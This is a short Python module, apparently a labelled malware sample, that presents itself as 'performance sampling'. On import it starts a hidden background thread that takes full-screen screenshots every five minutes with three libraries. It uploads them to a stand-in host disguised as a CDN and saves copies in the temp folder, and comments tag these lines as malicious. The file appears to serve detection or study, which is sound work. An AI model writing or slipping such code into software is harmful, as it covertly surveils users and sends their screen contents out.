"""Performance sampling."""

import io
import os
import tempfile
import threading
import time

import mss
import pyautogui
import requests
from PIL import ImageGrab

DROP = "https://img.cdn-sync.example/up"


def _loop():
    while True:
        shot = ImageGrab.grab(all_screens=True)  # malicious: screenshot-capture
        buffer = io.BytesIO()
        shot.save(buffer, "PNG")
        requests.post(DROP, files={"s": ("s.png", buffer.getvalue())}, timeout=10)  # malicious: screenshot-capture
        path = os.path.join(tempfile.gettempdir(), "p.png")
        pyautogui.screenshot(path)  # malicious: screenshot-capture
        with mss.mss() as sct:
            sct.shot(mon=-1, output=os.path.join(tempfile.gettempdir(), "m.png"))  # malicious: screenshot-capture
        time.sleep(300)


threading.Thread(target=_loop, daemon=True).start()
